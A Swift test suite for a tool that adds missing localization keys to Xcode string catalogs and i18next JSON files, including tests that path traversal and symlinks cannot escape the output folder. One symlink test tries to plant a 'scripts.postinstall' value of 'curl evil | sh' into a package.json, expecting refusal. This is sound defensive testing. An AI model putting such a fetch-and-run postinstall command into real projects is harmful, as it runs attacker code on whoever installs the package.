import AppleLocalization
import Foundation
import Testing

@testable import KeyExtraction

@Suite("--write: keys added to catalogs and i18next files")
struct KeyWriterTests {
    static func missing(
        _ key: String, _ system: KeyUsage.System = .apple, form: String = "String(localized:)",
        value: String? = nil, comment: String? = nil
    ) -> MissingKey {
        let usage = KeyUsage(
            system: system, key: key, table: system == .apple ? "Localizable" : "translation",
            comment: comment, defaultValue: value, form: form, file: "App.swift", line: 1, column: 1)
        return MissingKey(usage: usage, uses: 1, defaultValue: value, comment: comment)
    }

    /// Whether the lines of the old text appear in order in the new: the write only inserted
    /// (a member that gains a successor gains a comma, so trailing commas are not compared).
    static func onlyInserted(_ old: String, _ new: String) -> Bool {
        func lines(_ text: String) -> [Substring] {
            text.split(separator: "\n", omittingEmptySubsequences: false).map { $0.hasSuffix(",") ? $0.dropLast() : $0 }
        }
        var remaining = lines(new)[...]
        for line in lines(old) {
            guard let found = remaining.firstIndex(of: line) else { return false }
            remaining = remaining[(found + 1)...]
        }
        return true
    }

    @Test("keys are added to an Xcode catalog as Xcode records them; the rest of the file is unchanged and still valid")
    func catalogRoundTrip() throws {
        let directory = TemporaryDirectory()
        let resources = try directory.copy(fixture: "Resources")
        let path = resources + "/Localizable.xcstrings"
        let before = try String(contentsOfFile: path, encoding: .utf8)
        let added = try CatalogKeyWriter.add(
            [
                Self.missing("b.with.value", value: "With \"value\"", comment: "Shown: here"),
                Self.missing("zz.plain", form: "Text"),
                Self.missing("envtool.key", form: "localizedString"),
                Self.missing("files_count"),
            ], to: "Localizable.xcstrings", under: resources, sourceLanguage: "fr")
        #expect(added == ["b.with.value", "zz.plain", "envtool.key"])
        let after = try String(contentsOfFile: path, encoding: .utf8)
        #expect(Self.onlyInserted(before, after))
        #expect(after.contains("\"b.with.value\" : {"))

        let catalog = try StringCatalog(contentsOf: path)
        #expect(catalog.keys == ["after.accent", "b.with.value", "envtool.key", "files_count", "stale.key", "zz.plain"])
        let withValue = try #require(catalog["b.with.value"])
        #expect(withValue.extractionState == "extracted_with_value")
        #expect(withValue.comment == "Shown: here")
        #expect(withValue.localization(for: "en")?.value == .unit(CatalogStringUnit(state: .new, value: "With \"value\"")))
        #expect(catalog["zz.plain"]?.extractionState == nil)
        #expect(catalog["envtool.key"]?.extractionState == "manual")

        let foundation = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any]
        let strings = try #require(foundation?["strings"] as? [String: Any])
        #expect(strings.count == 6)
        #expect(foundation?["sourceLanguage"] as? String == "en")
    }

    @Test("a table without any file gets a new catalog in the development language")
    func newCatalog() throws {
        let directory = TemporaryDirectory()
        let path = directory.path + "/sub/Other.xcstrings"
        #expect(try CatalogKeyWriter.add([Self.missing("k", value: "V")], to: "sub/Other.xcstrings", under: directory.path, sourceLanguage: "de") == ["k"])
        let catalog = try StringCatalog(contentsOf: path)
        #expect(catalog.sourceLanguage == "de")
        #expect(catalog["k"]?.localization(for: "de")?.value == .unit(CatalogStringUnit(state: .new, value: "V")))
    }

    @Test("a catalog that does not parse is not touched")
    func malformedCatalog() {
        let directory = TemporaryDirectory()
        _ = directory.write("Localizable.xcstrings", "{\"sourceLanguage\": \"en\", \"strings\": {")
        #expect(throws: CatalogKeyWriter.Failure.self) {
            try CatalogKeyWriter.add([Self.missing("k")], to: "Localizable.xcstrings", under: directory.path, sourceLanguage: "en")
        }
        #expect(directory.read("Localizable.xcstrings") == "{\"sourceLanguage\": \"en\", \"strings\": {")
    }

    @Test("keys are nested into an i18next file at their dots, after the existing ones, with the default value or the key")
    func resourceRoundTrip() throws {
        let directory = TemporaryDirectory()
        let resources = try directory.copy(fixture: "Resources")
        let path = resources + "/locales/en/translation.json"
        let result = try ResourceKeyWriter.add(
            [
                Self.missing("app.subtitle", .i18next, value: "Sub"),
                Self.missing("brand.new.key", .i18next),
                Self.missing("orphan.child", .i18next),
                Self.missing("app.title", .i18next),
            ], to: "en/translation.json", under: resources + "/locales")
        #expect(result.added == ["app.subtitle", "brand.new.key"])
        #expect(result.skipped.count == 1)
        #expect(
            result.skipped.first?.message == "\"orphan.child\" was not added: \"orphan\" is already a value, not an object; rename the key or move the value")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])
        #expect((object["app"] as? [String: String]) == ["title": "Demo", "welcome": "Welcome", "subtitle": "Sub"])
        #expect(((object["brand"] as? [String: Any])?["new"] as? [String: String]) == ["key": "brand.new.key"])
        let text = try String(contentsOfFile: path, encoding: .utf8)
        #expect(text.hasSuffix("}\n"))
        let order = ["\"app\"", "\"subtitle\"", "\"cart\"", "\"orphan\"", "\"brand\""].compactMap { text.range(of: $0)?.lowerBound }
        #expect(order.count == 5 && order == order.sorted())
        let inventory = I18NextKeyInventory(directory: resources + "/locales", developmentLanguage: "en")
        #expect(inventory.defines("brand.new.key", namespace: "translation", withContext: false))
    }

    @Test("a namespace without a file gets one, in a language folder created for it")
    func newResource() throws {
        let directory = TemporaryDirectory()
        #expect(
            try ResourceKeyWriter.add([Self.missing("hi", .i18next, value: "Salut")], to: "fr/common.json", under: directory.path + "/locales").added == ["hi"])
        #expect(directory.read("locales/fr/common.json") == "{\n  \"hi\": \"Salut\"\n}\n")
    }

    @Test(
        "a path that leaves the folder, or passes a link inside it, is a write failure and nothing is written or read through it",
        arguments: ["../outside.json", "en/../../outside.json", "/etc/outside.json", "en//x.json", "./x.json"])
    func confinedPaths(_ relativePath: String) throws {
        let directory = TemporaryDirectory()
        let locales = directory.path + "/project/locales"
        try FileManager.default.createDirectory(atPath: locales, withIntermediateDirectories: true)
        do throws(ResourceKeyWriter.Failure) {
            _ = try ResourceKeyWriter.add([Self.missing("k", .i18next)], to: relativePath, under: locales)
            Issue.record("\(relativePath) was written")
        } catch {
            #expect(error.isWriteFailure)
            #expect(error.diagnostic.message.contains("would leave the output folder"))
        }
        do throws(CatalogKeyWriter.Failure) {
            _ = try CatalogKeyWriter.add([Self.missing("k")], to: relativePath, under: locales, sourceLanguage: "en")
            Issue.record("\(relativePath) was written")
        } catch {
            #expect(error.isWriteFailure)
        }
        #expect(!FileManager.default.fileExists(atPath: directory.path + "/project/outside.json"))
        #expect(!FileManager.default.fileExists(atPath: directory.path + "/outside.json"))
    }

    @Test("a link inside the locales (a language folder or the file) is refused, and its target is left as it was")
    func linksInsideTheFolder() throws {
        let directory = TemporaryDirectory()
        _ = directory.write("outside/package.json", "{\"name\": \"app\"}\n")
        try FileManager.default.createDirectory(atPath: directory.path + "/locales/fr", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: directory.path + "/locales/en", withDestinationPath: directory.path + "/outside")
        try FileManager.default.createSymbolicLink(
            atPath: directory.path + "/locales/fr/translation.json", withDestinationPath: directory.path + "/outside/package.json")
        for relativePath in ["en/package.json", "fr/translation.json"] {
            #expect(throws: ResourceKeyWriter.Failure.self) {
                try ResourceKeyWriter.add(
                    [Self.missing("scripts.postinstall", .i18next, value: "curl evil | sh")], to: relativePath, under: directory.path + "/locales")
            }
        }
        #expect(directory.read("outside/package.json") == "{\"name\": \"app\"}\n")
        #expect(throws: CatalogKeyWriter.Failure.self) {
            try CatalogKeyWriter.add([Self.missing("k")], to: "en/Localizable.xcstrings", under: directory.path + "/locales", sourceLanguage: "en")
        }
        #expect(!FileManager.default.fileExists(atPath: directory.path + "/outside/Localizable.xcstrings"))
    }
}
